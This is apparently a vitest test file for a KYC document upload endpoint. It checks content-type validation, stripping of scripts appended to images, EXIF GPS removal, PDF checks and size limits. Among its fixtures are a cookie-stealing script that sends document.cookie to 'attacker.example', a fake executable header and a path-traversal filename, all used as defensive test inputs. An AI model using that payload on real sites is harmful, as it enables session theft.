import { mkdtempSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KYC_UPLOAD_MAX_BYTES } from '@keystone/flows/constants';
import { createTestApp, type TestApp } from '../testing/test-app.ts';
import { testEngines } from '../testing/test-database.ts';
import {
  multipartForm,
  paddedJpeg,
  testEncryptedPdf,
  testJpeg,
  testPdf,
  testPng,
} from '../testing/builders/upload-files.ts';
import { bearer, insertTestUser, tokenFor } from '../testing/builders/users.ts';
import { storageKeyFromFileUrl } from './file-url.ts';

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const script = Buffer.from('<script>fetch("https://attacker.example/?c="+document.cookie)</script>');
const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(100, 0)]);
const unreadable = { errorCode: 4, message: 'File processing error' };

/** Whether an EXIF block holds a GPS position (the GPS IFD pointer, tag 0x8825, in the block's byte order). */
function hasGpsPosition(exif: Buffer): boolean {
  const littleEndian = exif.subarray(6, 8).toString('latin1') === 'II';
  return exif.includes(Buffer.from(littleEndian ? [0x25, 0x88] : [0x88, 0x25]));
}

describe.each(testEngines)('POST /api/file/temp on %s', (engine) => {
  let t: TestApp;
  let investor: { authorization: string };
  let admin: { authorization: string };
  let dataDir: string;

  beforeAll(async () => {
    dataDir = mkdtempSync(path.join(os.tmpdir(), 'keystone-uploads-'));
    t = await createTestApp(engine, { dataDir });
    investor = bearer(await tokenFor(t.config.jwtSecret, await insertTestUser(t.database.db)));
    admin = bearer(await tokenFor(t.config.jwtSecret, await insertTestUser(t.database.db, { role: 'ADMIN' })));
  });
  afterAll(() => t.close());

  /** Where the provider this engine gets keeps them: PostgreSQL in file_blobs, PGlite in the local folder. */
  const storedBytes = async (fileUrl: string) => {
    const key = storageKeyFromFileUrl(fileUrl) ?? '';
    return engine === 'postgres'
      ? (
          await t.database.db
            .selectFrom('file_blobs')
            .select('bytes')
            .where('storage_key', '=', key)
            .executeTakeFirstOrThrow()
        ).bytes
      : readFile(path.join(dataDir, 'uploads', key));
  };
  const post = (headers: { authorization: string }, body: ReturnType<typeof multipartForm>, query = '') =>
    t.app.inject({
      method: 'POST',
      url: `/api/file/temp${query}`,
      headers: { ...headers, ...body.headers },
      payload: body.payload,
    });
  const upload = (name: string, bytes: Buffer, query = '', as = investor) =>
    post(as, multipartForm({ name: 'file', filename: name, bytes }), query);

  it('stores a png under a server-generated name and answers its URL', async () => {
    const png = await testPng();
    const response = await upload('../../passport.png', png);

    expect(response.statusCode).toBe(201);
    const { fileUrl } = response.json<{ fileUrl: string }>();
    const key = storageKeyFromFileUrl(fileUrl);
    expect(key).toMatch(/^[0-9a-f-]{36}\.png$/);
    const stored = await storedBytes(fileUrl);
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'png', width: 16, height: 12 });
    const row = await t.database.db
      .selectFrom('uploaded_files')
      .selectAll()
      .where('storage_key', '=', key ?? '')
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ mime_type: 'image/png', size_bytes: stored.length, purpose: 'KYC_DOCUMENT' });
  });

  it('refuses an executable renamed to .png (checked by content)', async () => {
    const response = await upload('photo.png', exe);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({
      errorCode: 3,
      message: 'Unable to upload file',
      fieldErrors: [{ field: 'file', message: 'Incorrect format' }],
    });
  });

  it('refuses a PNG signature alone, and one followed by a script, as unreadable (code 4)', async () => {
    for (const bytes of [pngSignature, Buffer.concat([pngSignature, script])]) {
      const response = await upload('photo.png', bytes);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual(unreadable);
    }
  });

  it('stores a picture with a script after its end as the picture alone', async () => {
    const png = await testPng(2);
    const response = await upload('photo.png', Buffer.concat([png, script]));

    expect(response.statusCode).toBe(201);
    const stored = await storedBytes(response.json<{ fileUrl: string }>().fileUrl);
    expect(stored.includes(Buffer.from('<script>'))).toBe(false);
    expect(await sharp(stored).raw().toBuffer()).toEqual(await sharp(png).raw().toBuffer());
  });

  it('stores a selfie re-encoded, without the GPS position its EXIF held', async () => {
    const selfie = await testJpeg({ gps: true });
    expect(hasGpsPosition((await sharp(selfie).metadata()).exif!)).toBe(true);

    const response = await upload('selfie.jpg', selfie);

    expect(response.statusCode).toBe(201);
    const stored = await sharp(await storedBytes(response.json<{ fileUrl: string }>().fileUrl)).metadata();
    expect(stored).toMatchObject({ format: 'jpeg', width: 16, height: 12 });
    expect(stored.exif).toBeUndefined();
  });

  it('keeps a PDF as it came, and refuses an encrypted one, one that does not parse or one without a page (code 4)', async () => {
    const pdf = await testPdf();
    const kept = await upload('statement.pdf', pdf);
    expect(kept.statusCode).toBe(201);
    expect(await storedBytes(kept.json<{ fileUrl: string }>().fileUrl)).toEqual(pdf);

    const garbage = Buffer.concat([Buffer.from('%PDF-1.7\n'), script, Buffer.from('\n%%EOF\n')]);
    const pageless = Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n' +
        'trailer<</Root 1 0 R>>\n%%EOF\n',
    );
    for (const bytes of [await testEncryptedPdf(), garbage, pageless]) {
      const response = await upload('statement.pdf', bytes);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual(unreadable);
    }
  });

  it('takes 7 MB for a KYC document and refuses one byte more; project images may be larger', async () => {
    const atLimit = await paddedJpeg(KYC_UPLOAD_MAX_BYTES);
    expect((await upload('a.jpg', atLimit)).statusCode).toBe(201);
    const over = await paddedJpeg(KYC_UPLOAD_MAX_BYTES + 1);
    expect((await upload('a.jpg', over)).json()).toMatchObject({ errorCode: 3, fieldErrors: [{ field: 'file' }] });
    expect((await upload('a.jpg', over, '?purpose=PROJECT_IMAGE', admin)).statusCode).toBe(201);
    // A profile photo is not a KYC file: the 50 MB limit of seed 000 §5.
    expect((await upload('a.jpg', over, '?purpose=PROFILE_PHOTO')).statusCode).toBe(201);
  });

  it('refuses a pdf as a project image', async () => {
    const pdf = await testPdf();
    expect((await upload('a.pdf', pdf, '?purpose=PROJECT_IMAGE', admin)).json()).toMatchObject({ errorCode: 3 });
    expect((await upload('a.pdf', pdf, '?purpose=PROJECT_DOCUMENT', admin)).statusCode).toBe(201);
  });

  it('answers a second file or any other field with 400 code 2, not 413', async () => {
    const png = await testPng();
    const twoFiles = multipartForm(
      { name: 'file', filename: 'a.png', bytes: png },
      { name: 'file', filename: 'b.png', bytes: png },
    );
    const extraField = multipartForm(
      { name: 'file', filename: 'a.png', bytes: png },
      { name: 'note', bytes: Buffer.from('hello') },
    );
    const fieldFirst = multipartForm(
      { name: 'note', bytes: Buffer.from('hello') },
      { name: 'file', filename: 'a.png', bytes: png },
    );
    for (const body of [twoFiles, extraField, fieldFirst]) {
      const response = await post(investor, body);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ errorCode: 2, message: 'Invalid data' });
    }
  });

  it('answers a body cut short before its closing boundary with 400 code 2, not 500', async () => {
    const { payload, headers } = multipartForm({ name: 'file', filename: 'a.png', bytes: await testPng() });
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/file/temp',
      headers: { ...investor, ...headers },
      payload: payload.subarray(0, payload.lastIndexOf('--')),
    });

    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ errorCode: 2, message: 'Invalid data' });
  });

  it('needs a token', async () => {
    const body = multipartForm({ name: 'file', filename: 'a.png', bytes: await testPng() });
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/file/temp',
      headers: body.headers,
      payload: body.payload,
    });
    expect(response.json()).toMatchObject({ errorCode: 6 });
  });
});
